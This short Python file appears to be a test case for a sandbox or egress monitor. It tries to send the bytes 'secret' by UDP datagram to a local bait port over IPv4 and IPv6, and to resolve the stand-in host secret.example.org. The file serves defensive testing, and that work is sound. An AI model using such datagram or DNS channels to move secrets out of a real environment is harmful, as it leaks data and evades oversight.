"""Send a secret away in one datagram, which needs no answer."""

# ends: returned []
# shows outside
import socket


def main(bait):
    return worked(
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", bait["port"])),
        lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"secret", ("::1", bait["port"])),
        lambda: socket.getaddrinfo("secret.example.org", 80),
    )
